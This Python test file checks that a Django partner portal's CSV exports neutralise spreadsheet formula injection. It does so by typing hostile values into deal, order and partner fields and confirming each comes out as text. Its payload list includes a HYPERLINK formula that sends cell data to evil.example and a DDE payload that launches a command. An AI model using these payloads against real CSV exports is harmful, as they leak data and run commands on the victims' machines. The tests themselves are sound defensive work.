"""CSV exports never hand a spreadsheet a formula (docs/security.md#csv-exports): every cell a user could have typed
that begins with `=`, `+`, `-`, `@`, a tab or a carriage return is written as text, through the one helper in
`core.downloads`, which every CSV writer of `src/` must use."""

import ast
import csv
import datetime as dt
import io
from decimal import Decimal
from pathlib import Path

import pytest

from partnerhub.core.downloads import csv_text, neutralised
from partnerhub.core.models import Job
from partnerhub.deals import services

SRC = Path(__file__).resolve().parents[2] / "src" / "partnerhub"
HELPER = SRC / "core" / "downloads.py"
FILE_WRITER = SRC / "core" / "background.py"

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)"]


@pytest.mark.parametrize("text", [*HOSTILE, "\t=1+1", "\r=1+1"])
def test_a_formula_leading_text_is_written_as_text(text):
    assert neutralised(text) == "'" + text
    assert next(csv.reader(io.StringIO(csv_text(["name"], [[text]])), strict=True)) == ["name"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("Globex Corp.", "Globex Corp."),
        ("a=b", "a=b"),
        (" =1", " =1"),
        ("", ""),
        (None, ""),
        (Decimal("-12.50"), Decimal("-12.50")),
        (-3, -3),
        (dt.date(2019, 4, 1), dt.date(2019, 4, 1)),
    ],
)
def test_other_cells_are_written_as_they_are(value, cell):
    """A negative amount stays a number the spreadsheet can add up: a number or a date cannot spell a formula."""
    assert neutralised(value) == cell


def test_the_header_and_every_row_are_neutralised():
    rows = list(csv.reader(io.StringIO(csv_text(["=name", "amount"], [["@x", Decimal("-1.00")], ["ok", None]]))))

    assert rows == [["'=name", "amount"], ["'@x", "-1.00"], ["ok", ""]]


def _csv_writers_outside_the_helper() -> list[str]:
    """Every place in src/ that builds a CSV writer or answers `text/csv` content itself."""
    found = []
    for path in sorted(SRC.rglob("*.py")):
        if path == HELPER:
            continue
        tree = ast.parse(path.read_text(), filename=str(path))
        for node in ast.walk(tree):
            if _is_csv_writer(node):
                found.append(f"{path.relative_to(SRC)}:{getattr(node, 'lineno', 0)} {ast.unparse(node)}")
    return found


def _is_csv_writer(node: ast.AST) -> bool:
    """`csv.writer`, `csv.DictWriter`, `from csv import writer`, or a `content_type="text/csv…"` argument."""
    writers = {"writer", "DictWriter"}
    if isinstance(node, ast.Attribute):
        return node.attr in writers and isinstance(node.value, ast.Name) and node.value.id == "csv"
    if isinstance(node, ast.ImportFrom):
        return node.module == "csv" and any(alias.name in writers for alias in node.names)
    if isinstance(node, ast.keyword):
        value = node.value
        return (
            node.arg in {"content_type", "media_type"}
            and isinstance(value, ast.Constant)
            and "text/csv" in str(value.value)
        )
    return False


def test_no_module_of_src_writes_csv_without_the_helper():
    assert _csv_writers_outside_the_helper() == [], "write CSV with partnerhub.core.downloads (csv_response, write_csv)"


def _write_csv_callers() -> list[str]:
    """Every module of src/ that calls `write_csv` itself (the one writer of jobs' CSV files and the helper aside)."""
    found = []
    for path in sorted(SRC.rglob("*.py")):
        if path in {HELPER, FILE_WRITER}:
            continue
        for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
            if (
                isinstance(node, ast.Name | ast.Attribute)
                and getattr(node, "id", getattr(node, "attr", "")) == "write_csv"
            ):
                found.append(f"{path.relative_to(SRC)}:{node.lineno}")
    return found


def test_every_csv_file_a_job_writes_is_written_by_one_function():
    """A job's CSV file is written by `core.background.write_csv_file` (the same spooling, encoding and retry rule
    for every export), never by a module spooling `write_csv` itself."""
    assert _write_csv_callers() == [], "write a job's CSV file with partnerhub.core.background.write_csv_file"


def test_the_walk_finds_a_csv_writer(tmp_path, monkeypatch):
    """The walk above would see a new writer: proven on a module that builds one."""
    package = tmp_path / "partnerhub"
    package.mkdir()
    (package / "rogue.py").write_text("import csv\nw = csv.writer(open('x', 'w'))\n")
    monkeypatch.setattr(f"{__name__}.SRC", package)

    assert _csv_writers_outside_the_helper() == ["rogue.py:2 csv.writer"]


# Every export of the product, with a hostile text typed where users type --------------------------------------


def _rows(response) -> list[list[str]]:
    content = b"".join(response) if response.streaming else response.content
    return list(csv.reader(io.StringIO(content.decode())))


def _cells(response) -> set[str]:
    return {cell for row in _rows(response) for cell in row}


@pytest.mark.django_db
def test_the_deals_export_neutralises_what_partners_typed(api_client, make_partner, make_representative):
    partner = make_partner("Northwind")
    user = make_representative(partner, "paul")
    services.registration_submit(
        partner=partner, end_customer=HOSTILE[0], title=HOSTILE[1], country="DE", estimated_value=Decimal(1),
        contact_name=HOSTILE[2], contact_email="a@b.example", contact_phone="+49 30 1234567", consent_confirmed=True,
        submitted_on=dt.date(2019, 4, 1), acting_user=user,
    )  # fmt: skip

    cells = _cells(api_client(user).get("/api/v1/deals/export.csv"))

    assert {"'" + text for text in HOSTILE[:3]} | {"'+49 30 1234567"} <= cells
    assert not cells & set(HOSTILE)


@pytest.mark.django_db
def test_the_referral_fee_statement_neutralises_the_order_and_reasons(api_client, manager_user, make_partner, standing):
    partner = make_partner("Northwind")
    client = api_client(manager_user)
    ordered = client.post(
        "/api/v1/orders/",
        {
            "end_customer": HOSTILE[3], "opportunity": HOSTILE[0], "ordered_on": "2019-05-02",
            "first_year_net_revenue": "1000.00", "partner": partner.pk, "channel": "referral", "net_new": True,
            "country": "DE",
        },
        format="json",
    )  # fmt: skip
    assert ordered.status_code == 201, ordered.json()

    cells = _cells(client.get("/api/v1/referral-fees/statement.csv", {"partner": partner.pk, "period": "2019Q2"}))

    assert {"'" + HOSTILE[3], "'" + HOSTILE[0]} <= cells
    assert not cells & set(HOSTILE)


@pytest.mark.django_db
def test_the_partner_list_export_neutralises_names(
    client, manager_user, make_partner, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    make_partner(HOSTILE[2], contact_email="x@y.example")
    client.force_login(manager_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/console/partners.csv")  # a job writes the file (in-process without a broker)

    cells = _cells(client.get(f"/console/jobs/{Job.objects.get().pk}/file/"))

    assert "'" + HOSTILE[2] in cells
    assert HOSTILE[2] not in cells


@pytest.mark.django_db
def test_a_jobs_file_and_an_answer_in_the_request_carry_the_same_headers(
    api_client, client, manager_user, make_partner, settings, tmp_path, django_capture_on_commit_callbacks
):
    settings.MEDIA_ROOT = tmp_path
    make_partner("Northwind", contact_email="x@y.example")
    client.force_login(manager_user)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/console/partners.csv")
    job = Job.objects.get()

    answers = [
        client.get(f"/console/jobs/{job.pk}/file/"),
        api_client(manager_user).get(f"/api/v1/jobs/{job.pk}/file/"),
        api_client(manager_user).get("/api/v1/deals/export.csv"),
    ]

    assert [answer["Content-Type"] for answer in answers] == ["text/csv; charset=utf-8"] * 3
    assert [answer["Content-Disposition"].split(";")[0] for answer in answers] == ["attachment"] * 3
    assert f'filename="{job.result["filename"]}"' in answers[0]["Content-Disposition"]
